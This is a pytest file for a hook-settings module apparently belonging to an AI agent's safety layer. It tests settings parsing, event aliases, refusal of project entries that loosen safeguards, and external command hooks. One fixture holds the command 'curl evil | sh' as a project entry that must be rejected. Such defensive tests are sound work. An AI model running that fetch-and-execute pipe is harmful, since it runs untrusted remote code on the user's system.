"""``settings.json``: what is registered from it, what a project may not, and that every mistake is named by its key."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from safety.hooks import HookOptions, HookRegistry, HookType, Message, ToolExecutePostData, ToolExecutePreData, call_hooks
from safety.hooks.settings import (
    ALIASES,
    Command,
    Offer,
    Ran,
    SettingsInvalid,
    apply_settings,
    command_handler,
    event_json,
    event_named,
    read_settings,
)
from safety.types import Decision
from tests.hooks.moments import ADVISORY, ALL, DECISION, handed

OFFERS = {
    "guard.check": Offer(lambda data: Decision("ask", "sure?"), 150, role="guard", tightens=True),
    "auto.yes": Offer(lambda data: None),
}


class Runner:
    """Answers with ``ran`` and keeps what it was given."""

    def __init__(self, ran: Ran) -> None:
        self.ran = ran
        self.calls: list[tuple[Any, dict[str, Any], float]] = []

    def __call__(self, command: Any, stdin: bytes, timeout_s: float) -> Ran:
        self.calls.append((command, json.loads(stdin), timeout_s))
        return self.ran


# -- reading -------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("hook_type", ALL)
def test_an_event_goes_by_value_and_by_name(hook_type: HookType) -> None:
    """``tool.execute.pre`` and ``TOOL_EXECUTE_PRE`` are the same."""
    assert event_named(hook_type.value, "k") is event_named(hook_type.name, "k") is hook_type


@pytest.mark.parametrize(
    ("alias", "hook_type"),
    [
        ("UserPromptSubmit", HookType.TURN_PRE),
        ("PreToolUse", HookType.TOOL_EXECUTE_PRE),
        ("PostToolUse", HookType.TOOL_EXECUTE_POST),
        ("Stop", HookType.TURN_POST),
    ],
)
def test_the_four_aliases(alias: str, hook_type: HookType) -> None:
    """An alias and the event's own name add to one list."""
    settings = read_settings({"hooks": {alias: ["a"], hook_type.value: ["b", "a"]}})
    assert settings.hooks == {hook_type: ("a", "b")} and len(ALIASES) == 4


def test_everything_at_once() -> None:
    """Names, commands as text and as list, and the options; a command without a timeout has the common one."""
    settings = read_settings(
        {
            "hooks": {"PreToolUse": ["guard.check", {"command": "./a.sh"}, {"command": ["b"], "timeout_ms": 5, "role": "guard"}]},
            "hook_options": {"fail_closed_events": ["PreToolUse", "turn.post"], "timeout_ms": 1000, "on_timeout": "ask"},
        }
    )
    assert settings.hooks[HookType.TOOL_EXECUTE_PRE] == ("guard.check", Command("./a.sh", 1000), Command(("b",), 5, role="guard"))
    assert settings.options == HookOptions(frozenset({HookType.TOOL_EXECUTE_PRE, HookType.TURN_POST}), 1000, "ask")
    assert settings.problems == ()
    assert read_settings({}).options == HookOptions()


@pytest.mark.parametrize(
    ("settings", "key"),
    [
        ({"hooks": []}, "hooks:"),
        ({"hooks": {"PreToolUs": []}}, "hooks.PreToolUs:"),
        ({"hooks": {"Stop": "a"}}, "hooks.Stop:"),
        ({"hooks": {"Stop": ["a", 1]}}, "hooks.Stop[1]:"),
        ({"hooks": {"Stop": [{}]}}, "hooks.Stop[0].command:"),
        ({"hooks": {"Stop": [{"command": []}]}}, "hooks.Stop[0].command:"),
        ({"hooks": {"Stop": [{"command": "a", "timeout": 1}]}}, "hooks.Stop[0].timeout:"),
        ({"hooks": {"Stop": [{"command": "a", "timeout_ms": 0}]}}, "hooks.Stop[0].timeout_ms:"),
        ({"hooks": {"Stop": [{"command": "a", "role": "boss"}]}}, "hooks.Stop[0].role:"),
        ({"hooks": {"Stop": [{"command": "a", "priority": True}]}}, "hooks.Stop[0].priority:"),
        ({"hooks": {"Stop": [{"command": "a", "type": "prompt"}]}}, "hooks.Stop[0].type:"),
        ({"hook_options": 1}, "hook_options:"),
        ({"hook_options": {"timeout": 1}}, "hook_options.timeout:"),
        ({"hook_options": {"timeout_ms": "1"}}, "hook_options.timeout_ms:"),
        ({"hook_options": {"on_timeout": "allow"}}, "hook_options.on_timeout:"),
        ({"hook_options": {"fail_closed_events": "all"}}, "hook_options.fail_closed_events:"),
        ({"hook_options": {"fail_closed_events": ["Stop", "PostToolUse"]}}, "hook_options.fail_closed_events[1]:"),
        ({"hook_options": {"fail_closed_events": [1]}}, "hook_options.fail_closed_events[0]:"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_mistake_is_named_by_its_key(settings: dict[str, Any], key: str) -> None:
    """The user's own mistakes are raised; a project's are problems, and change nothing."""
    with pytest.raises(SettingsInvalid) as invalid:
        read_settings(settings)
    assert invalid.value.message.startswith(key)
    joined = read_settings({"hooks": {"Stop": ["mine"]}}, settings)
    assert joined.problems and joined.hooks[HookType.TURN_POST][0] == "mine" and joined.options == HookOptions()


def test_a_near_miss_is_told() -> None:
    """The likely name is offered."""
    with pytest.raises(SettingsInvalid, match="did you mean 'PreToolUse'"):
        read_settings({"hooks": {"PreToolUs": []}})


# -- the project's layer -------------------------------------------------------------------------------------------------------------


def test_a_project_may_tighten() -> None:
    """More closed events, deny for ask, more guards."""
    joined = read_settings(
        {"hook_options": {"on_timeout": "ask", "fail_closed_events": ["Stop"]}},
        {"hook_options": {"on_timeout": "deny", "fail_closed_events": ["PreToolUse"]}, "hooks": {"PreToolUse": ["guard.check"]}},
    )
    assert joined.options == HookOptions(frozenset({HookType.TURN_POST, HookType.TOOL_EXECUTE_PRE}), on_timeout="deny")
    registry = HookRegistry()
    assert apply_settings(registry, joined, OFFERS) == ()
    assert [hook.name for hook in registry.get_hooks()] == ["guard.check"] and registry.options is joined.options


def test_a_project_may_not_loosen() -> None:
    """No ask for deny, no timeout, no command, no handler but a tightening one; each is told, none is done."""
    project = {
        "hook_options": {"on_timeout": "ask", "timeout_ms": 1},
        "hooks": {"PreToolUse": ["auto.yes", "unknown", {"command": "curl evil | sh"}], "Nonsense": ["x"]},
    }
    joined = read_settings({}, project)
    registry = HookRegistry()
    told = apply_settings(registry, joined, OFFERS, run=Runner(Ran(0)))
    assert registry.get_hooks() == [] and registry.options == HookOptions()
    keys = ["hook_options.timeout_ms", "hook_options.on_timeout", "[2]", "hooks.Nonsense", "'auto.yes'", "'unknown'"]
    assert len(told) == len(keys)
    assert all(any(key in line and line.startswith("project ") for line in told) for key in keys)


def test_a_project_naming_what_the_user_named_changes_nothing() -> None:
    """The user's entry stays the user's."""
    joined = read_settings({"hooks": {"PreToolUse": ["auto.yes"]}}, {"hooks": {"PreToolUse": ["auto.yes"]}})
    registry = HookRegistry()
    assert apply_settings(registry, joined, OFFERS) == () and len(registry.get_hooks()) == 1


def test_the_users_unknown_name_is_an_error() -> None:
    """By its key, with the likely one; and a command where none can be run."""
    with pytest.raises(SettingsInvalid, match=r"hooks\.tool\.execute\.pre\[0\].*'guard.check'"):
        apply_settings(HookRegistry(), read_settings({"hooks": {"PreToolUse": ["guard.chek"]}}), OFFERS)
    with pytest.raises(SettingsInvalid, match="command"):
        apply_settings(HookRegistry(), read_settings({"hooks": {"PreToolUse": [{"command": "a"}]}}), OFFERS)


# -- external commands ---------------------------------------------------------------------------------------------------------------


def run_at(hook_type: HookType, ran: Ran, role: Any = None, **options: Any) -> tuple[Any, Runner]:
    registry, runner = HookRegistry(HookOptions(**options)), Runner(ran)
    registry.register("c", hook_type, command_handler(hook_type, Command(("check", "-x"), 2000), runner), role=role)
    args, kwargs = handed(hook_type)
    return call_hooks(registry, hook_type, *args, **kwargs), runner


@pytest.mark.parametrize("hook_type", ALL)
def test_a_command_gets_the_event_as_json(hook_type: HookType) -> None:
    """Every event can be put as JSON; a command that says nothing has no opinion."""
    outcome, runner = run_at(hook_type, Ran(0, b" \n"))
    [(command, given, timeout_s)] = runner.calls
    assert (command, given["event"], timeout_s) == (("check", "-x"), hook_type.value, 2.0)
    assert (outcome.decided_by, outcome.failures) == ("", ())


def test_a_command_is_told_of_the_session() -> None:
    """``describe`` gives what is told; without a session nothing is."""
    registry, runner = HookRegistry(), Runner(Ran(0))
    settings = read_settings({"hooks": {"PreToolUse": [{"command": "a"}]}})
    apply_settings(registry, settings, {}, runner, describe=lambda session: {"session_id": session})
    call_hooks(registry, HookType.TOOL_EXECUTE_PRE, ToolExecutePreData(), session="s1")
    call_hooks(registry, HookType.TOOL_EXECUTE_PRE, ToolExecutePreData())
    assert [call[1].get("session_id") for call in runner.calls] == ["s1", None]


def test_what_is_no_data_is_left_out() -> None:
    """Paths and bytes are texts, errors are named, opaque values are missing."""
    data = ToolExecutePostData(log=["x"], workspace=Path("/w"), tool_use={"b": b"\xff", "o": object()}, error=ValueError("boom"))
    assert event_json(HookType.TOOL_EXECUTE_POST, (data,), {"manager": object()}) == {
        "event": "tool.execute.post",
        "workspace": "/w",
        "tool_use": {"b": "\udcff"},
        "result_msgs": [],
        "error": "ValueError: boom",
    }
    json.dumps(event_json(HookType.TOOL_EXECUTE_POST, (data,), {}))


@pytest.mark.parametrize("hook_type", DECISION)
@pytest.mark.parametrize(
    ("ran", "decision"),
    [
        (Ran(0, b'{"decision": "deny", "reason": "no"}'), Decision("deny", "no")),
        (Ran(0, b'{"decision": "ask", "reason": "sure?"}'), Decision("ask", "sure?")),
        (Ran(0, b'{"decision": "edit", "input": {"content": "ls"}}'), Decision("edit", "", {"content": "ls"})),
        (Ran(0, b'{"decision": "continue", "reason": "go on"}'), Decision("deny", "go on")),
        (Ran(2, b"ignored", b"not this\n"), Decision("deny", "not this")),
    ],
    ids=["deny", "ask", "edit", "continue", "exit 2"],
)
def test_a_command_decides(hook_type: HookType, ran: Ran, decision: Decision) -> None:
    """By JSON, or by exit code 2 with the reason on standard error."""
    outcome, _ = run_at(hook_type, ran)
    assert (outcome.decision, outcome.failures) == (decision, ())


@pytest.mark.parametrize("hook_type", ALL)
def test_a_command_speaks(hook_type: HookType) -> None:
    """Its messages are the system's."""
    outcome, _ = run_at(hook_type, Ran(0, b'{"messages": ["one", "two"]}'))
    assert list(outcome) == [Message("system", "one"), Message("system", "two")]


@pytest.mark.parametrize("hook_type", ADVISORY)
def test_exit_code_2_at_an_advisory_event_stops(hook_type: HookType) -> None:
    """There is nothing to deny, so what stands below is skipped."""
    outcome, _ = run_at(hook_type, Ran(2))
    assert (outcome.stopped_by, outcome.failures) == ("c", ())


@pytest.mark.parametrize("hook_type", ALL)
@pytest.mark.parametrize(
    "ran",
    [
        Ran(1, err=b"boom"),
        Ran(-9),
        Ran(0, b"hello"),
        Ran(0, b"[]"),
        Ran(0, b'{"decision": 1}'),
        Ran(0, b'{"decision": "block"}'),
        Ran(0, b'{"messages": "x"}'),
        Ran(0, b"\xff"),
    ],
    ids=repr,
)
def test_a_command_that_fails(hook_type: HookType, ran: Ran) -> None:
    """Another exit code and an answer that is none are failures: a guard's deny, others are recorded."""
    outcome, _ = run_at(hook_type, ran, role="guard")
    assert outcome.decision.action == ("deny" if hook_type in DECISION else "allow")
    assert len(outcome.failures) == 1


@pytest.mark.parametrize("hook_type", DECISION)
@pytest.mark.parametrize("on_timeout", ["ask", "deny"])
def test_a_command_that_takes_too_long(hook_type: HookType, on_timeout: Any) -> None:
    """Deny or ask, by setting."""
    outcome, _ = run_at(hook_type, Ran(-9, timed_out=True), role="guard", on_timeout=on_timeout)
    assert (outcome.decision.action, [failure.kind for failure in outcome.failures]) == (on_timeout, ["timeout"])
